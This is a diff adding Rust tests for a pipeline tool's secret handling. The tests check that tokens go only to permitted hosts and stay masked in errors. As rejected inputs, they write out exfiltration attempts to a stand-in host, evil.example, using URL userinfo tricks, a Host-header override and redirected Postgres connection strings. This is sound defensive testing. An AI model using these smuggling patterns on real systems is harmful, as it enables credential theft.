@@ -1,0 +1,187 @@
+//! Secrets are sent to their hosts by their systems, and to nobody else.
+
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+
+use hob_house::Live;
+use hob_house::config::{Hosts, SecretEntry, SecretRefused, Secrets, SecretsConfig};
+use hob_pipeline::run::RunState;
+use hob_pipeline::{Config, Error, ItemState, Pipelines};
+use hob_records::PageRequest;
+use hob_testkit::run;
+use tempfile::TempDir;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+
+use crate::runs::{begin, state_becomes};
+use crate::support::Place;
+
+const VALUE: &str = "s3cret-that-nobody-sees";
+
+/// A secret in a file, for pipelines and these hosts.
+pub(crate) fn secret(name: &str, file: &Path, hosts: &[&str]) -> SecretsConfig {
+    let hosts = Hosts::Listed(hosts.iter().map(|host| host.parse().unwrap()).collect());
+    let from = format!("file:{}", file.display()).parse().unwrap();
+    let entry = SecretEntry { from, systems: vec!["pipeline".to_owned()], hosts };
+    SecretsConfig::from_iter([(name.parse().unwrap(), entry)])
+}
+
+fn token(folder: &TempDir, value: &str, hosts: &[&str]) -> SecretsConfig {
+    let file = folder.path().join("token");
+    std::fs::write(&file, value).unwrap();
+    secret("t", &file, hosts)
+}
+
+fn open(place: &Place, folder: &TempDir, secrets: Live<SecretsConfig>) -> (hob_house::House, Pipelines) {
+    let mut house = place.house(place.store.hot().clone());
+    house.secrets = Secrets::new(secrets);
+    let config = Config { folder: folder.path().to_owned(), ..Config::default() };
+    let pipelines = Pipelines::open(&house, Live::fixed(config)).unwrap();
+    pipelines.start();
+    (house, pipelines)
+}
+
+fn plan(keys: &str, step: &str) -> String {
+    format!(
+        "name = 'x'\nquota = {{ name = 'api', windows = '1000/1m' }}\nsource = {{ step = 's', list = {keys} }}\n\
+         [step.s]\n{step}\n[retry]\nparse = {{ attempts = 1 }}\nclient = {{ attempts = 1 }}\n"
+    )
+}
+
+#[test]
+fn a_plan_that_may_not_use_its_secrets_is_not_saved() {
+    run(async {
+        let (place, folder) = (Place::embedded().await, TempDir::new().unwrap());
+        let (live, replace) = Live::new(token(&folder, VALUE, &["*.api.example", "db.example"]));
+        let (_house, pipelines) = open(&place, &folder, live);
+        let header = "headers = { Authorization = 'Token {secret.t}' }";
+        let sink =
+            "extract = { id = '$.id' }\nsink = 'out'\n[sink.out]\ntable = 'a'\nkey = ['id']\npostgres = 't'";
+        let put = async |step: &str| pipelines.put_plan(&plan("['1']", step)).await.map(drop);
+        for step in [
+            format!("get = 'https://eu.api.example/{{key}}'\n{header}"),
+            format!("get = 'https://{{key}}.api.example/'\n{header}"),
+            "get = 'https://eu.api.example/{secret.t}'".to_owned(),
+            "post = 'https://eu.api.example/'\nbody = '{secret.t}'".to_owned(),
+            "get = 'https://eu.api.example/'\nheaders = { Host = 'us.api.example', A = '{secret.t}' }"
+                .to_owned(),
+        ] {
+            put(&step).await.unwrap_or_else(|error| panic!("{step}: {error}"));
+        }
+        for (step, field, says) in [
+            (
+                format!("get = 'https://evil.example/'\n{header}"),
+                "headers.Authorization",
+                "sent to evil.example:443",
+            ),
+            (
+                format!("get = 'https://a.api.example@evil.example/'\n{header}"),
+                "headers.Authorization",
+                "evil.example",
+            ),
+            ("get = 'https://evil.example/{secret.t}'".to_owned(), "get", "sent to evil.example:443"),
+            (
+                "post = 'https://evil.example/'\nbody = '{secret.t}'".to_owned(),
+                "body",
+                "sent to evil.example:443",
+            ),
+            ("get = 'https://{secret.t}.api.example/'".to_owned(), "get", "part of a URL's host"),
+            (
+                "get = 'https://a.api.example/'\nheaders = { hOst = 'evil.example', A = '{secret.t}' }"
+                    .to_owned(),
+                "headers.A",
+                "sent to evil.example:443",
+            ),
+            ("get = 'https://a.api.example/{secret.other}'".to_owned(), "get", "there is no secret other"),
+        ] {
+            match put(&step).await {
+                Err(Error::Secret { field: found, refused }) => {
+                    assert_eq!(found, format!("step.s.{field}"), "{step}");
+                    assert!(refused.to_string().contains(says), "{step}: {refused}");
+                }
+                other => panic!("{step}: {other:?}"),
+            }
+        }
+        let refused = async || match put(sink).await {
+            Err(Error::Secret { field, refused }) if field == "sink.out.postgres" => refused,
+            other => panic!("{other:?}"),
+        };
+        let name = || "t".parse().unwrap();
+        assert_eq!(refused().await, SecretRefused::NotAnAddress(name()));
+        for (value, hosts, expected) in [
+            ("postgres://u:p@evil.example/db", "db.example", SecretRefused::OwnHost(name())),
+            ("postgres://u:p@db.example/db?host=evil.example", "db.example", SecretRefused::OwnHost(name())),
+            ("postgres://u:p@db.example:5433/db", "db.example:5432", SecretRefused::OwnHost(name())),
+            ("https://db.example/?token=x", "db.example", SecretRefused::NotAnAddress(name())),
+        ] {
+            replace.replace(token(&folder, value, &[hosts]));
+            assert_eq!(refused().await, expected, "{value}");
+        }
+        replace.replace(token(&folder, "postgres://u:p@DB.example/db", &["db.example:5432"]));
+        put(sink).await.unwrap();
+    });
+}
+
+/// Repeats every request in its answer, and keeps it.
+async fn echo() -> (u16, Arc<Mutex<Vec<String>>>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let heard: Arc<Mutex<Vec<String>>> = Arc::default();
+    let keep = Arc::clone(&heard);
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let mut head = Vec::new();
+            while !head.ends_with(b"\r\n\r\n") && stream.read_buf(&mut head).await.unwrap_or(0) > 0 {}
+            let head = String::from_utf8(head).unwrap();
+            let answer = format!(
+                "HTTP/1.1 400 Bad\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{head}",
+                head.len()
+            );
+            keep.lock().unwrap().push(head);
+            let _ = stream.write_all(answer.as_bytes()).await;
+        }
+    });
+    (port, heard)
+}
+
+#[test]
+fn a_secret_is_sent_to_its_hosts_only_and_never_shown() {
+    run(async {
+        let (place, folder) = (Place::embedded().await, TempDir::new().unwrap());
+        let (live, replace) = Live::new(token(&folder, VALUE, &["localhost"]));
+        let (_house, pipelines) = open(&place, &folder, live);
+        let (port, heard) = echo().await;
+        let step =
+            format!("get = 'http://{{key}}:{port}/{{secret.t}}'\nheaders = {{ A = 'Token {{secret.t}}' }}");
+        // The host comes from the item, so that only the request itself can be judged.
+        let text = plan("['localhost', '127.0.0.1']", &step);
+        let errors = async || {
+            let started = begin(&pipelines, &text).await;
+            state_becomes(&pipelines, &started, RunState::Completed).await;
+            let page = PageRequest::first(10);
+            let items =
+                pipelines.items(&started.id, Some(ItemState::Quarantined), None, &page).await.unwrap();
+            let mut errors: Vec<(String, String)> =
+                items.rows.into_iter().map(|item| (item.key, item.error)).collect();
+            errors.sort();
+            errors
+        };
+        let found = errors().await;
+        assert!(
+            found[0].1.contains(&format!("the secret t may not be sent to 127.0.0.1:{port}")),
+            "{found:?}"
+        );
+        assert!(
+            found[1].1.contains("400 Bad Request: GET /… HTTP/1.1") && found[1].1.contains("Token …"),
+            "{found:?}"
+        );
+        {
+            let heard = heard.lock().unwrap();
+            assert_eq!(heard.len(), 1, "{heard:?}");
+            assert!(heard[0].contains(VALUE) && heard[0].contains("host: localhost"), "{heard:?}");
+        }
+        replace.replace(token(&folder, VALUE, &["other.example"]));
+        let found = errors().await;
+        assert!(found.iter().all(|(_, error)| error.contains("may not be sent to")), "{found:?}");
+        assert_eq!(heard.lock().unwrap().len(), 1);
+    });
+}
